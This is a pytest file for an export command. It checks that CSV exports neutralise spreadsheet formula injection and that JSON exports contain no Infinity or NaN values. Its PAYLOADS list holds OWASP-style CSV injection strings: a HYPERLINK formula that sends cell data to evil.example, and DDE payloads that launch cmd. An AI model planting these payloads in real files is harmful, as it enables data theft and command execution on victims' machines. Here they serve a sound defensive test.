"""`baton export`: no cell a spreadsheet would run as a formula, no number JSON does not have."""

from __future__ import annotations

import csv
import io
import json
import math
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import Engine
from sqlmodel import Session, select

from bot.portfolio.export import FORMULA_PREFIXES, spreadsheet_cell
from storage.models import CheckIn, CheckInSource, Initiative, Objective, Status, TargetMode
from tests.conftest import run_baton

AT = datetime(2026, 11, 23, 10, tzinfo=UTC)
# What OWASP lists (owasp.org/www-community/attacks/CSV_Injection), as attackers write it
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
)
TITLES = ("=1+1 Grow revenue", "+33 600 000 000 hotline", "-20 % churn", "@ops review")


def roadmap_with_dangerous_titles(env: dict, tmp_path: Path) -> None:
    roadmap = tmp_path / "roadmap.csv"
    with roadmap.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["Initiative", "Objective", "KPI", "Owner", "Quarter"])
        writer.writerows([title, "Grow", "Revenue", "CFO", "2026-Q4"] for title in TITLES)
    done = run_baton(env, tmp_path, "import", str(roadmap))
    assert done.returncode == 0, done.stderr


def seed_checkins(engine: Engine) -> None:
    """One check-in per imported initiative and payload, every text field holding the payload."""
    with Session(engine) as session:
        for initiative in session.exec(select(Initiative)):
            for number, payload in enumerate(PAYLOADS):
                session.add(
                    CheckIn(
                        initiative_id=initiative.id or 0,
                        cycle="2026-W48",
                        author="U0OWNER001",
                        status=Status.AT_RISK,
                        kpi_value=-3.5,
                        confidence=3,
                        progress=40,
                        comment=payload,
                        next_steps=payload,
                        blockers=f"{payload};=2+2",  # `;`, the separator where Excel's locale is French
                        decision_needed=payload,
                        source=CheckInSource.MODAL,
                        submitted_at=AT.replace(minute=number),
                    )
                )
        session.commit()


def test_no_exported_cell_starts_a_formula_and_numbers_stay_numbers(
    env: dict, tmp_path: Path, engine: Engine
) -> None:
    roadmap_with_dangerous_titles(env, tmp_path)
    seed_checkins(engine)
    out = tmp_path / "checkins.csv"
    done = run_baton(env, tmp_path, "export", "--format", "csv", "--output", str(out))
    assert done.returncode == 0, done.stderr
    text = out.read_bytes().decode("utf-8")  # as written: read_text would turn a `\r` into `\n`
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(TITLES) * len(PAYLOADS)
    dangerous = [cell for row in rows for cell in row if cell.startswith(FORMULA_PREFIXES)]
    assert dangerous == ["-3.5"] * len(rows)  # the KPI value only: a number, not a formula
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    assert {cell["initiative"] for cell in cells} == {"'" + title for title in TITLES}
    for name in ("comment", "next_steps", "decision_needed"):
        assert sorted({cell[name] for cell in cells}) == sorted("'" + payload for payload in PAYLOADS)
    assert {cell["blockers"] for cell in cells} == {f"'{payload};=2+2" for payload in PAYLOADS}
    # Numbers are written bare and every text quoted: a reader that converts bare fields gets numbers,
    # and a text's separators stay inside its cell whatever separator a spreadsheet splits on.
    typed = list(csv.DictReader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC))
    assert {(row["kpi_value"], row["confidence"], row["progress"]) for row in typed} == {(-3.5, 3.0, 40.0)}
    assert '"\'=1+1 Grow revenue","2026-W48",' in text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # a text that looks like a number is still a text someone typed
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("Cut costs = savings", "Cut costs = savings"),
        ("", ""),
        ("'=1", "'=1"),  # already what a spreadsheet reads as text
        # OWASP does not list the full-width signs: spreadsheets do not read them as formulas
        ("＝1+1", "＝1+1"),
        (-3.5, -3.5),
        (0, 0),
        (None, None),
    ],
)
def test_a_cell_is_neutralised_only_when_it_would_start_a_formula(value: object, written: object) -> None:
    assert spreadsheet_cell(value) == written


def refuse_constants(name: str) -> float:
    raise AssertionError(f"the export holds {name}")


def test_json_export_holds_no_infinity_or_nan(env: dict, tmp_path: Path, engine: Engine) -> None:
    """Values stored before anything refused them (PostgreSQL keeps Infinity and NaN; SQLite keeps
    Infinity and reads NaN back as NULL) are exported as null."""
    with Session(engine) as session:
        objective = Objective(title="Grow", title_key="grow", quarter="2026-Q4", created_at=AT)
        session.add(objective)
        session.flush()
        initiative = Initiative(
            objective_id=objective.id or 0,
            title="Overflowing",
            title_key="overflowing",
            kpi_name="Revenue",
            kpi_baseline=-math.inf,
            kpi_target=math.inf,
            kpi_current=math.nan,
            target_mode=TargetMode.RELATIVE,
            target_change=math.inf,
            status=Status.ON_TRACK,
            created_at=AT,
            updated_at=AT,
        )
        session.add(initiative)
        session.flush()
        for kpi in (math.inf, -math.inf, math.nan):
            session.add(
                CheckIn(
                    initiative_id=initiative.id or 0,
                    cycle="2026-W48",
                    author="U0OWNER001",
                    status=Status.ON_TRACK,
                    kpi_value=kpi,
                    source=CheckInSource.MODAL,
                    submitted_at=AT,
                )
            )
        session.commit()
    for args in (("export",), ("export", "--quarter", "2026-Q4")):
        done = run_baton(env, tmp_path, *args)
        assert done.returncode == 0, done.stderr
        assert "Infinity" not in done.stdout and "NaN" not in done.stdout
        data = json.loads(done.stdout, parse_constant=refuse_constants)
        [exported] = data["initiatives"]
        assert exported["kpi"] | {"name": None, "unit": None, "direction": None} == {
            "name": None,
            "unit": None,
            "baseline": None,
            "target": None,
            "direction": None,
            "current": None,
        }
        assert exported["target"] == {"mode": "relative", "change": None}
        assert [checkin["kpi_value"] for checkin in data["checkins"]] == [None, None, None]
        if "--quarter" in args:
            [review] = data["review"]
            assert (review["baseline"], review["target"], review["reached"]) == (None, None, None)
    csv_done = run_baton(env, tmp_path, "export", "--format", "csv")
    assert csv_done.returncode == 0, csv_done.stderr
    assert "inf" not in csv_done.stdout and "nan" not in csv_done.stdout
